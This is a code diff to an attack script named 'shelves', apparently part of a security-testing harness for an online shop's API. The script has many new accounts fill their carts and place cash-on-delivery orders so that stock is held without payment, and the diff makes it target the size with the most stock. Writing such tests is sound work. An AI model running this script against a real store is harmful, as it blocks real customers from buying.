@@ -29,19 +29,28 @@ async function piecesLeft({ mongodbUri }: Target): Promise<number> {
   }
 }
 
+type Offered = { _id: string; stock: number; stockBySize: Record<string, number> | null };
+
+/** As many pieces as a line may have, of the size with the most. */
+function mostOf({ _id, stock, stockBySize }: Offered) {
+  const [fullest] = Object.entries(stockBySize ?? {}).sort(([, a], [, b]) => b - a);
+  const [size, left] = fullest ?? [undefined, stock];
+  return { productId: _id, size, quantity: Math.max(1, Math.min(left, 10)) };
+}
+
 export const shelves: Attack = {
   name: "shelves",
   does: `${accounts} new accounts order all they can for cash and hold what is left, without paying`,
   run: async (target) => {
     const before = await piecesLeft(target);
     const list = await fetch(`${target.url}/api/shop/products/get?limit=100&sortBy=price_lowtohigh`);
-    const { data } = (await list.json()) as { data: { _id: string; stock: number }[] };
+    const { data } = (await list.json()) as { data: Offered[] };
     const statuses = new Map<number, number>();
     const attack = async (number: number) => {
       const call = await newAccount(target, number);
       for (let round = 0; round < 8; round++) {
-        for (const { _id, stock } of data.slice(round * 4, round * 4 + 4)) {
-          await call("/api/shop/cart/add", { productId: _id, quantity: Math.max(1, Math.min(stock, 10)) });
+        for (const product of data.slice(round * 4, round * 4 + 4)) {
+          await call("/api/shop/cart/add", mostOf(product));
         }
         for (const way of ["createCOD", "create"]) {
           const { status } = await call(`/api/shop/order/${way}`, { addressInfo: destination });
